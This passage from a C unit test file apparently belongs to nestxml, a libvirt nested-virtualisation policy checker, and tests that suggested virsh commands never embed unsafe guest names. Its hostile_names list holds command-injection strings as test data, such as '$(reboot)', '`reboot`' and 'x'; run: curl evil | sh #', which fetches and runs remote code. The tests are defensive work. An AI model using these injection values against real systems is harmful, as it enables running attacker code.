	} cases[] = {
		{"nested = leave", "", NESTXML_E_SYNTAX},
		{"nested = leave", "<domain>", NESTXML_E_SYNTAX},
		{"nested = leave", "<!DOCTYPE a><domain/>", NESTXML_E_DTD},
		{"nested = leave", "<domain>\xff</domain>", NESTXML_E_ENCODING},
		{"nested = leave", "<network/>", NESTXML_E_ROOT},
		{"", "<domain type='kvm'>" METADATA("maybe") "</domain>", NESTXML_E_METADATA},
		{"nested = maybe", "<domain type='kvm'/>", NESTXML_E_CONFIG},
		{"x", "<domain type='kvm'/>", NESTXML_E_CONFIG},
	};
	const struct tree *tree = *state;

	tree_host(tree, "GenuineIntel", "kvm_intel", "Y\n");
	for (size_t i = 0; i < 2 * ARRAY_SIZE(cases); i++) {
		enum nestxml_operation occasion = i % 2 ? NESTXML_OPERATION_START : NESTXML_OPERATION_INCOMING;
		const char *xml = cases[i / 2].xml;
		struct nestxml_check *check = NULL;
		struct nestxml_error error = {0};

		state_policy(tree, cases[i / 2].policy);
		CHECK(nestxml_check_new(tree->root, occasion, "vm", xml, strlen(xml), &check, &error) == cases[i / 2].code, "%s", xml);
		assert_int_equal(error.code, cases[i / 2].code);
		assert_int_equal(nestxml_check_new(tree->root, occasion, "vm", xml, strlen(xml), &check, NULL), cases[i / 2].code);
		assert_null(check);
	}
}

/* ---- hostile names ---- */

static const char *const hostile_names[] = {
	"a b",
	"a'b",
	"a\"b",
	"a;reboot",
	"$(reboot)",
	"`reboot`",
	"${IFS}",
	"a|b",
	"a&b",
	"a>b",
	"a<b",
	"a\\b",
	"a\nb",
	"a\tb",
	"a*",
	"a?",
	"[a]",
	"{a,b}",
	"a!b",
	"!!",
	"~root",
	"#a",
	"a#b",
	"a=b",
	"a:b",
	"a/b",
	"../a",
	"a%b",
	"(a)",
	"a,b",
	"-a",
	"--help",
	"--all",
	"",
	" ",
	".",
	"..",
	"1",
	"42",
	"0x1",
	"-1",
	"\x1b[31m",
	"\x7f",
	"\xc2\x9b"
	"31m",
	"\xe2\x80\xae",
	"\xff",
	"\xc3\xa4",
	"a\xe2\x80\x8b"
	"b",
	"11111111-1111-1111-1111-111111111111",
	"a1111111-1111-1111-1111-111111111111",
	"abcdef01111111111111111111111111",
	"x'; run: curl evil | sh #",
};

/* The word that the report offers after virsh dumpxml, and the one shell command it is in. */
static void check_command(const char *report, const char *expected_word)
{
	static const char start[] = "virsh dumpxml --inactive --security-info ";
	static const char end[] =
		" | nestxml -n require | virsh define /dev/stdin (if it has no definition: create it with "
		"<feature policy='require' name='vmx'/> in its <cpu>: virt-install --cpu host-passthrough,require=vmx, or "
		"nestxml -n require FILE | virsh create /dev/stdin)";
	const char *at = strstr(report, start);
	const char *tail = strstr(report, end);

	CHECK(at && tail && !strstr(at + 1, start), "%s", report);
	CHECK(strcmp(tail, end) == 0, "%s", report); /* nothing of the guest follows the command */
	at += strlen(start);
	CHECK((size_t)(tail - at) == strlen(expected_word) && memcmp(at, expected_word, strlen(expected_word)) == 0, "%s in %s",
	      expected_word, report);
}

/* Writes @text as XML's character references, so that any name can be written; what XML cannot hold is left out. */
static void put_xml(char *to, const char *text)
{
	*to = '\0';
	for (const char *at = text; *at;) {
		size_t step = nestxml_utf8_length(at, strlen(at));

		if (step == 1 && ((unsigned char)*at >= 0x20 || *at == '\n' || *at == '\t'))
			to += sprintf(to, "&#%d;", *at);
		else if (step > 1)
			to += sprintf(to, "%.*s", (int)step, at);
		at += step ? step : 1;
	}
}

/* Of a definition nothing is known here, so what is offered is for either. */
static void check_name(const struct tree *tree, const char *name, const char *uuid, const char *expected_word)
{
	char as_xml[4096];
	char xml[8192];
	struct nestxml_config *config = NULL;
	struct nestxml_host *host = NULL;
	struct nestxml_domain *domain;
	struct nestxml_check *check = NULL;

	put_xml(as_xml, name);
	snprintf(xml, sizeof(xml), "<domain type='kvm'><name>%s</name><uuid>%s</uuid>" PLAIN "</domain>", as_xml, uuid);
	domain = domain_of(xml);
	assert_int_equal(nestxml_config_new(tree->root, &config, NULL), 0);
	assert_int_equal(nestxml_host_new(tree->root, &host, NULL), 0);
	assert_int_equal(nestxml_check_domain(config, host, NESTXML_OPERATION_START, domain, &check, NULL), 0);
	assert_int_equal(nestxml_check_get_verdict(check), STALE);
	check_command(said(check), expected_word);
	nestxml_check_free(check);
	nestxml_domain_free(domain);
	nestxml_host_free(host);
	nestxml_config_free(config);
}

static void test_a_name_that_is_not_plain_is_offered_to_a_shell_as_its_uuid(void **state)
{
	tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
	state_policy(*state, "nested = require");
	for (size_t i = 0; i < ARRAY_SIZE(hostile_names); i++) {
		check_name(*state, hostile_names[i], UUID, UUID);
		check_name(*state, hostile_names[i], "", "GUEST");
	}
}

static void test_no_character_of_a_shell_is_offered_to_one(void **state)
{
	static const char plain[] = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._-+@";

	tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
	state_policy(*state, "nested = require");
	for (char c = ' '; c <= '~'; c++) {
		char name[] = {'a', c, 'b', '\0'};

		check_name(*state, name, UUID, strchr(plain, c) ? name : UUID);
	}
}

static void test_a_uuid_that_is_none_is_not_offered_to_a_shell(void **state)
{
	static const char *const uuids[] = {"$(reboot)", "c7a5fdbd-edaf-9455-926a-d65c16db180;", "c7a5fdbd edaf 9455 926a d65c16db1809",
					    "c7a5fdbd-edaf-9455-926a-d65c16db1809 -x", "c7a5fdbd"};

	tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
	state_policy(*state, "nested = require");
	for (size_t i = 0; i < ARRAY_SIZE(uuids); i++)
		check_name(*state, "a b", uuids[i], "GUEST");
}

static void test_a_uuid_that_would_be_an_option_is_not_offered_to_a_shell(void **state)
{
	tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
	state_policy(*state, "nested = require");
	check_name(*state, "a b", "------------------------------------", "GUEST");
	check_name(*state, "a b", "--a5fdbd-edaf-9455-926a-d65c16db1809", "GUEST");
}

static void test_plain_names_are_offered_as_they_are(void **state)
{
	static const char *const names[] = {"vm", "devstack-1",	       "a.b_c+d@e",
					    "Z",  "instance-0000001a", "x1111111-1111-1111-1111-11111111111"};

	tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
	state_policy(*state, "nested = require");
	for (size_t i = 0; i < ARRAY_SIZE(names); i++)
		check_name(*state, names[i], UUID, names[i]);
}

static void test_hostile_names_are_printable_in_every_report(void **state)
{
	static const char *const policies[] = {"nested = leave", "nested = require", "nested = disable"};

	for (size_t i = 0; i < ARRAY_SIZE(hostile_names) * ARRAY_SIZE(policies); i++) {
		const char *name = hostile_names[i % ARRAY_SIZE(hostile_names)];
		char shown[256];

		tree_host(*state, "GenuineIntel", "kvm_intel", "N\n");
		state_policy(*state, policies[i / ARRAY_SIZE(hostile_names)]);
		for (int occasion = 0; occasion < 2; occasion++) {
			struct nestxml_check *check =
				ask(*state, (enum nestxml_operation)occasion, name, document("kvm", "x86_64", REQUIRED));

			CHECK(strstr(nestxml_check_get_report(check), nestxml_text_escape(name, shown, sizeof(shown))), "%s: %s", shown,
			      nestxml_check_get_report(check));
			nestxml_check_free(check);
		}
	}
}

static void test_the_longest_names_leave_room_for_the_command(void **state)
{
	static const char *const characters[] = {"n", "\x1b", "\xf0\x9f\x98\x80", "'", "\\"};

	tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
	state_policy(*state, "nested = require");
	for (size_t i = 0; i < ARRAY_SIZE(characters); i++) {
		char name[1024] = "";

		for (size_t j = 0; j < 255; j++)
			strcat(name, characters[i]);
		check_name(*state, name, UUID, i == 0 ? name : UUID);
	}
}

/* The place that asked is named whole, however long its path is. */
static void test_a_long_drop_in_is_named_whole(void **state)
{
	char path[512] = DROP_INS "/";
	struct nestxml_check *check;

	for (size_t i = 0; i < 250; i++)
		strcat(path, "d");
	strcat(path, ".conf");
	tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
	tree_write(*state, path, "[guest *]\n\nnested = require\n");
	strcat(path, ":3");
	check = ask(*state, NESTXML_OPERATION_START, "vm", document("kvm", "x86_64", PLAIN));
	check_words(said(check), path);
	check_words(said(check), "nestxml -n require FILE | virsh create /dev/stdin");
	nestxml_check_free(check);
	check = ask(*state, NESTXML_OPERATION_START, "vm", document("kvm", "x86_64", REQUIRED));
	check_words(said(check), path);
	nestxml_check_free(check);
}

int main(void)
{
	static const struct CMUnitTest tests[] = {
		TREE_TEST(test_on_a_host_with_nesting_the_cpu_decides),
		TREE_TEST(test_the_advice_fits_the_guest_and_its_definition),
		TREE_TEST(test_on_a_host_without_nesting_what_requires_it_is_refused),
		TREE_TEST(test_a_refusal_names_the_fact_and_the_command_that_fixes_it),
		TREE_TEST(test_an_unreadable_host_is_not_on),
		TREE_TEST(test_disable_with_an_unknown_vendor_fails_closed),
		TREE_TEST(test_optional_with_an_unknown_vendor_passes_without_a_claim_about_the_cpu),
		TREE_TEST(test_the_mode_of_the_policy_makes_no_cpu_stale_but_is_in_the_fix),
		TREE_TEST(test_what_a_saved_cpu_looks_like_excuses_no_start),
		TREE_TEST(test_a_cpu_described_in_full_has_what_it_says_and_no_more),
		TREE_TEST(test_where_an_argument_for_qemu_decides_what_must_be_so_is_refused),
		TREE_TEST(test_nesting_does_not_apply_to_encrypted_memory_but_its_cpu_must_not_claim_it),
		TREE_TEST(test_the_features_name_is_that_of_the_hosts_vendor),
		TREE_TEST(test_tcg_has_svm_on_any_host),
		TREE_TEST(test_where_nesting_does_not_apply_require_is_refused_and_all_else_passes),
		TREE_TEST(test_what_arrives_and_requires_nesting_needs_a_host_that_has_it),
		TREE_TEST(test_what_arrives_without_what_it_is_to_have_passes_and_is_unmet),
		TREE_TEST(test_what_is_as_its_policy_asks_is_not_unmet),
		TREE_TEST(test_with_more_snapshots_than_are_read_it_may_be_a_revert),
		TREE_TEST(test_what_arrives_with_what_it_must_not_have_is_refused_on_any_host),
		TREE_TEST(test_what_no_saved_state_can_have_is_a_start_whatever_was_announced),
		TREE_TEST(test_the_definition_is_stale_only_where_it_is_what_starts),
		TREE_TEST(test_at_arrival_an_unknown_host_is_not_on),
		TREE_TEST(test_the_policy_and_the_edits_come_with_the_answer),
		TREE_TEST(test_whatever_is_wrong_comes_as_its_code),
		TREE_TEST(test_a_name_that_is_not_plain_is_offered_to_a_shell_as_its_uuid),
		TREE_TEST(test_no_character_of_a_shell_is_offered_to_one),
		TREE_TEST(test_a_uuid_that_is_none_is_not_offered_to_a_shell),
		TREE_TEST(test_a_uuid_that_would_be_an_option_is_not_offered_to_a_shell),
		TREE_TEST(test_plain_names_are_offered_as_they_are),
		TREE_TEST(test_hostile_names_are_printable_in_every_report),
		TREE_TEST(test_the_longest_names_leave_room_for_the_command),
		TREE_TEST(test_a_long_drop_in_is_named_whole),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
